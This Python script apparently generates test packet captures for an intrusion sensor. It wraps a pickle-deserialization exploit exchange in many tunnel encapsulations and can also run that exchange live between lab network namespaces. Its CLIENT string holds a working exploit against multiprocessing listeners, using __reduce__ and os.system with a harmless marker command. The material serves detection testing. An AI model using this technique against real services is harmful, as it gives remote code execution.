#!/usr/bin/python3
"""Makes tunnel/*.pcap: one real exploit exchange in each encapsulation that the sensor knows, and their entries in
MANIFEST.yaml. Needs python3-scapy and tshark; for vxlan-kernel.pcap also root, iproute2, tcpdump and a kernel with vxlan.

  tunnels.py              all of them
  tunnels.py --check      asks tshark for the innermost addresses and ports of each, and holds them against the manifest

vxlan-kernel.pcap is an exchange between two namespaces over the kernel's own device. The others are attack-posix-system-
p4.pcap and attack-ipv6.pcap, wrapped packet by packet: the kernel at hand had neither gre, ipip, sit, ip6_tunnel,
geneve, erspan, mpls nor 8021q. Each has a listener port of its own.
"""
import argparse
import logging
import os
import struct
import subprocess
import sys
import tempfile
import time

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import (GRE, IP, TCP, UDP, Dot1AD, Dot1Q, Ether, IPv6, IPv6ExtHdrFragment, PcapReader, Raw, fragment,
                       fragment6, wrpcap)

import make
from ip_evasion import PYTHON
from lab import Lab, read_until, run, stop

FIRST_PORT = 51000
V4_BASE, V6_BASE = "attack-posix-system-p4", "attack-ipv6"
NEAR, FAR = "192.0.2.1", "192.0.2.2"
NEAR6, FAR6 = "2001:db8:7::1", "2001:db8:7::2"
MACS = {True: ("02:00:00:00:00:0c", "02:00:00:00:00:05"), False: ("02:00:00:00:00:05", "02:00:00:00:00:0c")}


class Direction:
    """Who sends, and the outer headers that go with it."""

    def __init__(self, to_server):
        self.to_server = to_server
        self.mac, self.peer_mac = MACS[to_server]

    def ether(self, **fields):
        return Ether(src=self.mac, dst=self.peer_mac, **fields)

    def ip(self, **fields):
        return IP(src=NEAR if self.to_server else FAR, dst=FAR if self.to_server else NEAR, **fields)

    def ip6(self, **fields):
        return IPv6(src=NEAR6 if self.to_server else FAR6, dst=FAR6 if self.to_server else NEAR6, **fields)

    def udp(self, port):
        return UDP(sport=49152 + self.to_server, dport=port)


def labels(*values):
    return b"".join(struct.pack("!I", v << 12 | (i == len(values) - 1) << 8 | 64) for i, v in enumerate(values))


def gre(d, proto, body, flags=0, rest=b""):
    return d.ether() / d.ip(proto=47) / Raw(struct.pack("!HH", flags, proto) + rest + body)


def erspan2(body, session=100):
    return struct.pack("!HHI", 1 << 12 | 7, 3 << 11 | session, 5) + body


def erspan3(body, session=200, subheader=b""):
    return struct.pack("!HHIHH", 2 << 12 | 7, session, 0x01020304, 0, 1 if subheader else 0) + subheader + body


def vxlan(vni, body):
    return struct.pack("!II", 0x08000000, vni << 8) + body


def geneve(vni, proto, body, options=b""):
    return struct.pack("!BBHI", len(options) // 4, 0, proto, vni << 8) + options + body


def gtp(teid, body, flags=0x30, optional=b""):
    return struct.pack("!BBHI", flags, 255, len(optional) + len(body), teid) + optional + body


def b(packet):
    return bytes(packet)


def pieces(d, ip, size):
    return [d.ether() / part for part in (fragment6(ip, size + 48) if isinstance(ip, IPv6) else fragment(ip, size))]


# name: (story, base, wrap(direction, frame) -> packets, extra facts about the tunnel); `frame` is Ethernet without offloads
def table():
    inner = lambda f: b(f.payload)  # the IP packet
    ethertype = lambda f: f.type
    ppp = lambda f: struct.pack("!BBHHH", 0x11, 0, 0x1234, len(f.payload) + 2, 0x21) + inner(f)
    geneve_option = struct.pack("!HBB", 0x0102, 0x80, 1) + b"abcd"
    return {
        "qinq": ("in a VLAN in a service VLAN", V4_BASE,
                 lambda d, f: d.ether() / Dot1AD(vlan=300) / Dot1Q(vlan=7) / f.payload),
        "mpls": ("behind two MPLS labels", V4_BASE,
                 lambda d, f: d.ether(type=0x8847) / Raw(labels(1000, 17 + d.to_server) + inner(f))),
        "mpls-pseudo-wire": ("in an Ethernet pseudo-wire with a control word", V4_BASE,
                             lambda d, f: d.ether(type=0x8847) / Raw(labels(2000) + struct.pack("!I", 9) + b(f))),
        "mpls-pseudo-wire-bare": ("in an Ethernet pseudo-wire without a control word", V4_BASE,
                                  lambda d, f: d.ether(type=0x8847) / Raw(labels(2000) + b(f))),
        "pppoe": ("in a PPPoE session", V4_BASE, lambda d, f: d.ether(type=0x8864) / Raw(ppp(f))),
        "gre": ("in GRE", V4_BASE, lambda d, f: gre(d, 0x0800, inner(f))),
        "gre-key": ("in GRE with checksum, key and sequence number", V4_BASE,
                    lambda d, f: gre(d, 0x0800, inner(f), 0xb000, struct.pack("!HHII", 0, 0, 77, 5))),
        "gretap": ("in an Ethernet frame in GRE", V4_BASE, lambda d, f: gre(d, 0x6558, b(f))),
        "gre-ipv6": ("in GRE over IPv6", V4_BASE,
                     lambda d, f: d.ether() / d.ip6(nh=47) / Raw(struct.pack("!HH", 0, 0x0800) + inner(f))),
        "erspan-1": ("mirrored by ERSPAN type I", V4_BASE, lambda d, f: gre(Direction(True), 0x88be, b(f))),
        "erspan-2": ("mirrored by ERSPAN type II", V4_BASE,
                     lambda d, f: gre(Direction(True), 0x88be, erspan2(b(f)), 0x1000, struct.pack("!I", 1))),
        "erspan-3": ("mirrored by ERSPAN type III", V4_BASE,
                     lambda d, f: gre(Direction(True), 0x22eb, erspan3(b(f)), 0x1000, struct.pack("!I", 1))),
        "erspan-3-subheader": ("mirrored by ERSPAN type III with a platform's subheader", V4_BASE,
                               lambda d, f: gre(Direction(True), 0x22eb, erspan3(b(f), 201, b"\x14" + b"\0" * 7), 0x1000,
                                                struct.pack("!I", 1))),
        "ipip": ("in IPv4 in IPv4", V4_BASE, lambda d, f: d.ether() / d.ip(proto=4) / f.payload),
        "6in4": ("over IPv6 in IPv4", V6_BASE, lambda d, f: d.ether() / d.ip(proto=41) / f.payload),
        "4in6": ("over IPv4 in IPv6", V4_BASE, lambda d, f: d.ether() / d.ip6(nh=4) / f.payload),
        "6in6": ("over IPv6 in IPv6", V6_BASE, lambda d, f: d.ether() / d.ip6(nh=41) / f.payload),
        "vxlan": ("in VXLAN", V4_BASE,
                  lambda d, f: d.ether() / d.ip() / d.udp(4789) / Raw(vxlan(4242, b(f)))),
        "vxlan-8472": ("in VXLAN on Linux's old port", V4_BASE,
                       lambda d, f: d.ether() / d.ip() / d.udp(8472) / Raw(vxlan(0xfffffe, b(f)))),
        "vxlan-ipv6": ("in VXLAN over IPv6", V6_BASE,
                       lambda d, f: d.ether() / d.ip6() / d.udp(4789) / Raw(vxlan(1, b(f)))),
        "geneve": ("in GENEVE with options", V4_BASE,
                   lambda d, f: d.ether() / d.ip() / d.udp(6081) / Raw(geneve(99, 0x6558, b(f), geneve_option))),
        "geneve-ip": ("in GENEVE without an Ethernet header", V4_BASE,
                      lambda d, f: d.ether() / d.ip() / d.udp(6081) / Raw(geneve(98, ethertype(f), inner(f)))),
        "gtp-u": ("in GTP-U, each direction with its endpoint id", V4_BASE,
                  lambda d, f: d.ether() / d.ip() / UDP(sport=2152, dport=2152) /
                  Raw(gtp(0x1000 + d.to_server, inner(f)))),
        "gtp-u-extension": ("in GTP-U with a sequence number and an extension header", V4_BASE,
                            lambda d, f: d.ether() / d.ip() / UDP(sport=2152, dport=2152) /
                            Raw(gtp(0x2000 + d.to_server, inner(f), 0x36,
                                    b"\0\1\0\x85" + (b"\1\x10\1\0" if d.to_server else b"\1\0\1\0")))),
        "nested": ("in VXLAN in GRE in IPv6 behind MPLS and a VLAN", V4_BASE,
                   lambda d, f: d.ether() / Dot1Q(vlan=12, type=0x8847) / Raw(labels(16) + b(
                       d.ip6(nh=47) / Raw(struct.pack("!HH", 0, 0x0800) + b(
                           d.ip() / d.udp(4789) / Raw(vxlan(5, b(d.ether() / Dot1Q(vlan=34) / f.payload)))))))),
        "vxlan-in-fragments": ("in VXLAN whose datagrams travel in fragments", V4_BASE,
                               lambda d, f: pieces(d, d.ip(id=next(IDS)) / d.udp(4789) / Raw(vxlan(6, b(f))),
                                                   48)),
        "fragments-in-vxlan": ("in fragments inside VXLAN", V4_BASE,
                               lambda d, f: [d.ether() / d.ip() / d.udp(4789) / Raw(vxlan(7, b(d.ether() / part)))
                                             for part in fragment(f.payload, 24)]),
        "fragments-in-fragments": ("in fragments of IPv6 inside fragments of IPv4", V6_BASE,
                                   lambda d, f: [outer for n, part in enumerate(
                                       fragment6(b6(f, d), 120))
                                       for outer in pieces(d, d.ip(proto=41, id=next(IDS)) / part, 48)]),
    }


IDS = iter(range(1, 65536))


def b6(frame, d):
    """The IPv6 packet with a fragment header for fragment6 to go by."""
    ip = frame.payload.copy()
    rest = ip.payload
    ip.remove_payload()
    return IPv6(src=ip.src, dst=ip.dst) / IPv6ExtHdrFragment(id=next(IDS)) / rest


def base(name, port):
    """The packets of a capture with another listener port, checksums right: (is from the client, time, frame)."""
    old = next(e for e in make.read_manifest() if e["scenario"] == name)["listeners"][0]["port"]
    with PcapReader(os.path.join(make.PCAPS, name + ".pcap")) as packets:
        for p in packets:
            if TCP not in p:
                continue
            to_server = p[TCP].dport == old
            if to_server:
                p[TCP].dport = port
            else:
                p[TCP].sport = port
            del p[TCP].chksum
            yield to_server, p.time, Ether(bytes(p))


def write(name, wrap, base_name, port):
    out = []
    for to_server, when, frame in base(base_name, port):
        wrapped = wrap(Direction(to_server), frame)
        for packet in wrapped if isinstance(wrapped, list) else [wrapped]:
            packet = Ether(bytes(packet))
            packet.time = when
            out.append(packet)
    wrpcap(os.path.join(make.PCAPS, "tunnel", name + ".pcap"), out)


def entry(name, story, base_name, port, server4=None, client4=None):
    old = next(e for e in make.read_manifest() if e["scenario"] == base_name)
    made = dict(old, file="tunnel/%s.pcap" % name, scenario="tunnel-" + name, made_by="tunnels.py",
                story="posix.system %s." % story)
    made.pop("note", None)
    made["listeners"] = [dict(old["listeners"][0], port=port)]
    made["alerts"] = [dict(a) for a in old["alerts"]]
    if server4:
        made["listeners"][0]["address"] = server4
        for a in made["alerts"]:
            a["src"] = client4
    return made


SERVER = """
import sys
from multiprocessing.connection import Listener
l = Listener(("10.98.0.1", %d)); print("ready", flush=True)
c = l.accept()
try: c.recv()
except Exception: pass
"""
CLIENT = """
import os, sys, time
from multiprocessing.connection import Client
class Exploit:
    def __reduce__(self): return os.system, ("touch pickletap-was-here",)
c = Client(("10.98.0.1", %d)); c.send(Exploit()); time.sleep(0.3); c.close()
"""


def vxlan_by_kernel(path, port):
    """Two namespaces, a vxlan device in each; the exploit runs in the server's."""
    with Lab() as lab, tempfile.TemporaryDirectory(prefix="pickletap-make-") as work:
        for side, inner, remote in (("server", "10.98.0.1", "10.99.0.2"), ("client", "10.98.0.2", "10.99.0.1")):
            inside = lambda *command: run("ip", "netns", "exec", lab.ns[side], *command)
            inside("ip", "link", "add", "vx0", "type", "vxlan", "id", "4711", "remote", remote, "dstport", "4789", "dev",
                   lab.veth[side])
            inside("ip", "address", "add", inner + "/24", "dev", "vx0")
            inside("ip", "link", "set", "vx0", "up")
        time.sleep(1)
        tap = lab.start("server", ["tcpdump", "-Z", "root", "-n", "-U", "--immediate-mode", "-i", lab.veth["server"], "-s",
                                   "0", "-w", path, "udp port 4789"], stderr=subprocess.PIPE)
        read_until(tap.stderr, rb"listening on", 15)
        server = lab.start("server", ["python3", "-c", SERVER % port], cwd=work, stdout=subprocess.PIPE)
        read_until(server.stdout, rb"ready", 15)
        client = lab.start("client", ["python3", "-c", CLIENT % port], cwd="/")
        client.wait(20)
        server.wait(20)
        time.sleep(0.5)
        stop(tap, 2)
        if not os.path.exists(os.path.join(work, "pickletap-was-here")):
            raise RuntimeError("the exploit did not run")
    os.chmod(path, 0o644)


def check():
    bad = 0
    for e in make.read_manifest():
        if e.get("made_by") != "tunnels.py":
            continue
        listener = e["listeners"][0]
        v6 = ":" in listener["address"]
        field = "ipv6" if v6 else "ip"
        said = subprocess.run(["tshark", "-n", "-r", os.path.join(make.PCAPS, e["file"]), "-d", "udp.port==8472,vxlan",
                               *(["-d", "mpls.label==2000,pwethnocw"] if "bare" in e["file"] else []), "-Y",
                               "tcp.dstport == %d && tcp.len > 0" % listener["port"], "-T", "fields", "-e",
                               field + ".dst", "-e", "tcp.dstport", "-e", "tcp.payload"], capture_output=True, text=True,
                              timeout=60)
        rows = [line.split("\t") for line in said.stdout.splitlines()]
        good = [r for r in rows if r[0].split(",")[-1] == listener["address"] and b"pickletap-was-here".hex() in r[2]]
        print("%-36s %s" % (e["file"], "agrees" if good else "DIFFERS: %s %s" % (rows[:2], said.stderr[:200])))
        bad += not good
    return bad


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true")
    a = parser.parse_args()
    if a.check:
        return 1 if check() else 0
    os.makedirs(os.path.join(make.PCAPS, "tunnel"), exist_ok=True)
    entries = [e for e in make.read_manifest() if e.get("made_by") != "tunnels.py"]
    for number, (name, (story, base_name, wrap)) in enumerate(table().items()):
        write(name, wrap, base_name, FIRST_PORT + number)
        entries.append(entry(name, story, base_name, FIRST_PORT + number))
        print("made", name, flush=True)
    port = FIRST_PORT + len(table())
    path = os.path.join(make.PCAPS, "tunnel", "vxlan-kernel.pcap")
    if os.geteuid() == 0:
        vxlan_by_kernel(path, port)
        print("made vxlan-kernel", flush=True)
    if os.path.exists(path):
        version = {"python": PYTHON, "key": "none"}
        entries.append(dict(entry("vxlan-kernel", "in VXLAN, by the kernel's own device", V4_BASE, port, "10.98.0.1",
                                  "10.98.0.2"), server=dict(version, kind="listener"), client=version))
    make.write_manifest(entries)
    return 0


if __name__ == "__main__":
    sys.exit(main())
